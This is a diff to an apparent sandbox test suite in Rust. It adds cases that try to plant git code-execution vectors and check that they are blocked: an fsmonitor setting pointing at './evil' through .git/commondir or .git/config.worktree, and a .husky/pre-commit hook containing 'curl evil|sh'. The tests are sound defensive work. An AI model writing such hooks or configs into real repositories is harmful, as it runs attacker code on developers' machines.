@@ -958,6 +958,42 @@ fn cases() -> Vec<Case> {
         },
         Case {
             group: "protected",
+            name: "point .git/commondir at the command's config",
+            protect: true,
+            net: "none",
+            setup: no_setup,
+            script: |_, _| {
+                "mkdir -p ev/objects ev/refs && printf '[core]\\n\\tfsmonitor = ./evil\\n' > ev/config; echo \"$PWD/ev\" > .git/commondir".to_string()
+            },
+            next: None,
+            check: |c, _, _| absent(&c.ws.join(".git/commondir")),
+        },
+        Case {
+            group: "protected",
+            name: "create .git/config.worktree",
+            protect: true,
+            net: "none",
+            setup: no_setup,
+            script: |_, _| {
+                "printf '[core]\\n\\tfsmonitor = ./evil\\n' > .git/config.worktree".to_string()
+            },
+            next: None,
+            check: |c, _, _| absent(&c.ws.join(".git/config.worktree")),
+        },
+        Case {
+            group: "protected",
+            name: "a hook in the core.hooksPath directory (.husky)",
+            protect: true,
+            net: "none",
+            setup: |c, _| {
+                std::fs::write(c.ws.join(".git/config"), "[core]\n\thooksPath = .husky\n").unwrap();
+            },
+            script: |_, _| "mkdir -p .husky; echo 'curl evil|sh' > .husky/pre-commit".to_string(),
+            next: None,
+            check: |c, _, _| absent(&c.ws.join(".husky/pre-commit")),
+        },
+        Case {
+            group: "protected",
             name: "hard link a protected file",
             protect: true,
             net: "none",
